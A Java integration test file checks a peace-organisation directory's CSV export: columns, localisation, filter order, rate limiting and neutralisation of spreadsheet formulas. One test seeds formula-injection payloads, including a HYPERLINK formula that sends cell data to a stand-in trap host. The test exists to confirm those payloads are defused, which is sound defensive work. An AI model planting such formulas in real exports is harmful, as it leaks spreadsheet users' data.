package org.peacedirectory.search;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.peacedirectory.DirectoryTest;
import org.peacedirectory.WebClient;
import org.peacedirectory.organisation.HostileProfiles;
import org.peacedirectory.system.DataLicence;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.MessageSource;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/** Lists and searches as CSV, over real HTTP, read back with a CSV parser. */
@DirectoryTest
class ListCsvTest {

    private static final List<String> COLUMNS = List.of(
            "profile_url",
            "name",
            "acronym",
            "country",
            "works_in",
            "themes",
            "founded",
            "website",
            "verified",
            "verified_on",
            "verification_level",
            "summary",
            "summary_language",
            "published_on",
            "updated_on");

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    HostileProfiles profiles;

    @Autowired
    ExportLimit limit;

    @Autowired
    MessageSource messages;

    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    @AfterEach
    void everyAddressMayExport() {
        limit.clear();
    }

    @Test
    void exportsTheOrganisationsOfTheListWithItsFiltersInItsOrder() throws Exception {
        String filters = "?country=ml&theme=small-arms-control&sort=updated";
        List<String> onThePage = resultSlugs(new WebClient(port).page("/organisations" + filters, "en"));

        HttpResponse<String> export = get("/organisations.csv" + filters, "en");

        assertThat(export.statusCode()).isEqualTo(200);
        MediaType type = MediaType.parseMediaType(
                export.headers().firstValue("Content-Type").orElseThrow());
        assertThat(type.isCompatibleWith(MediaType.parseMediaType("text/csv"))).isTrue();
        assertThat(type.getCharset()).isEqualTo(StandardCharsets.UTF_8);
        assertThat(type.getParameter("header")).isEqualTo("present");
        assertThat(export.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"organisations.csv\"");
        assertThat(export.headers().firstValue("Link")).hasValue(DataLicence.LINK_HEADER);
        assertThat(export.body()).startsWith("\uFEFF" + String.join(",", COLUMNS) + "\r\n");
        List<Map<String, String>> rows = rows(export.body());
        assertThat(onThePage).isNotEmpty();
        assertThat(rows)
                .extracting(row -> row.get("profile_url"))
                .containsExactlyElementsOf(onThePage.stream()
                        .map(slug -> "http://localhost:" + port + "/organisations/" + slug)
                        .toList());
        assertThat(rows).allSatisfy(row -> {
            assertThat(row.get("country") + " " + row.get("works_in")).contains("ML");
            assertThat(row.get("themes").split(" ")).contains("small-arms-control");
        });
    }

    @Test
    void givesEachOrganisationsMainFactsWithTheSummaryInTheReadersLanguage() throws Exception {
        Map<String, String> english = rowOf("conascipal", get("/organisations.csv?q=conascipal", "en"));
        Map<String, String> french = rowOf("conascipal", get("/organisations.csv?q=conascipal", "fr"));

        Map<String, Object> stored = jdbc.sql("""
                select name, acronym, country_code, founding_year, website, verification_level,
                       (select summary from organisation_translation t where t.organisation_id = o.id and language = 'fr')
                         as summary_fr
                from organisation o where slug = 'conascipal'""").query().singleRow();
        assertThat(french.get("name")).isEqualTo(stored.get("name"));
        assertThat(french.get("acronym")).isEqualTo(Objects.toString(stored.get("acronym"), ""));
        assertThat(french.get("country")).isEqualTo(stored.get("country_code"));
        assertThat(french.get("founded")).isEqualTo(String.valueOf(stored.get("founding_year")));
        assertThat(french.get("website")).isEqualTo(Objects.toString(stored.get("website"), ""));
        assertThat(french.get("verified"))
                .isEqualTo(String.valueOf(!stored.get("verification_level").equals("NOT_YET_VERIFIED")));
        assertThat(french.get("verification_level")).isEqualTo(stored.get("verification_level"));
        assertThat(french.get("summary")).isEqualTo(stored.get("summary_fr"));
        assertThat(french.get("summary_language")).isEqualTo("fr");
        assertThat(english.get("summary_language")).isEqualTo("en");
        assertThat(english.get("summary")).isNotEqualTo(french.get("summary"));
    }

    @Test
    void neutralisesCellsThatASpreadsheetWouldRunAsAFormulaAndKeepsEveryOtherCharacter() throws Exception {
        String slug = "formulas-" + UUID.randomUUID().toString().substring(0, 8);
        profiles.publish(new HostileProfiles.Texts(
                slug,
                "=HYPERLINK(\"https://spreadsheet-trap.example/?\"&A1, \"Open\")",
                "+A1",
                "-2+3, then\r\nsome \"quoted\" text; " + HostileProfiles.MARKUP,
                "@SUM(A1:A9)",
                "\tKolda",
                "Network " + slug,
                "N" + slug.substring(9),
                "https://example.org/" + slug + "?a=1,b=\"2\"",
                "https://example.org/link/" + slug));
        HostileProfiles.Texts hostile = profiles.publish();

        HttpResponse<String> export = get("/organisations.csv", "en");

        Map<String, String> formulas = rowOf(slug, export);
        assertThat(formulas.get("name")).isEqualTo("'=HYPERLINK(\"https://spreadsheet-trap.example/?\"&A1, \"Open\")");
        assertThat(formulas.get("acronym")).isEqualTo("'+A1");
        assertThat(formulas.get("summary")).isEqualTo("'-2+3, then\r\nsome \"quoted\" text; " + HostileProfiles.MARKUP);
        assertThat(formulas.get("website")).isEqualTo("https://example.org/" + slug + "?a=1,b=\"2\"");
        Map<String, String> markup = rowOf(hostile.slug(), export);
        assertThat(markup.get("name")).isEqualTo(hostile.name());
        assertThat(markup.get("summary")).isEqualTo(hostile.summary());
    }

    @Test
    void theListPagesLinkToTheirExportInTheReadersLanguage() {
        WebClient web = new WebClient(port);

        Document country = web.page("/countries/ml?theme=small-arms-control&q=armes", "fr");
        Document all = web.page("/organisations", "en");

        assertThat(country.selectFirst("a[type=text/csv]").attr("href"))
                .isEqualTo("/organisations.csv?q=armes&country=ml&theme=small-arms-control");
        assertThat(country.selectFirst("a[type=text/csv]").text())
                .isEqualTo(messages.getMessage("search.downloadCsv", null, Locale.FRENCH));
        assertThat(all.selectFirst("a[type=text/csv]").attr("href")).isEqualTo("/organisations.csv");
        assertThat(all.selectFirst("a[type=text/csv]").text())
                .isEqualTo(messages.getMessage("search.downloadCsv", null, Locale.ENGLISH));
    }

    @Test
    void refusesAnAddressThatExportedTooMuchWithTheTimeToWait() throws Exception {
        assertThat(get("/organisations.csv", "en").statusCode()).isEqualTo(200);
        for (int export = 2; export <= 60; export++) {
            limit.record("127.0.0.1");
        }

        HttpResponse<String> refused = get("/organisations.csv", "en");

        assertThat(refused.statusCode()).isEqualTo(429);
        assertThat(refused.headers().firstValue("Retry-After").map(Long::valueOf))
                .hasValueSatisfying(seconds -> assertThat(seconds).isBetween(3500L, 3600L));
        assertThat(refused.body()).contains(messages.getMessage("error.tooManyRequests.title", null, Locale.ENGLISH));
        assertThat(new WebClient(port).get("/organisations", "en").statusCode()).isEqualTo(200);
    }

    private HttpResponse<String> get(String path, String language) throws Exception {
        return http.send(
                HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                        .header("Accept-Language", language)
                        .header("Accept", "text/csv,text/html;q=0.9")
                        .build(),
                HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private static List<Map<String, String>> rows(String csv) {
        try (MappingIterator<Map<String, String>> rows = new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .readValues(csv.substring(1))) { // after the byte-order mark
            return rows.readAll();
        }
    }

    private static Map<String, String> rowOf(String slug, HttpResponse<String> export) {
        return rows(export.body()).stream()
                .filter(row -> row.get("profile_url").endsWith("/organisations/" + slug))
                .findFirst()
                .orElseThrow(() -> new AssertionError(slug + " not in the export"));
    }

    private static List<String> resultSlugs(Document page) {
        return page.select(".results .card-title a").eachAttr("href").stream()
                .map(href -> href.substring(href.lastIndexOf('/') + 1))
                .toList();
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
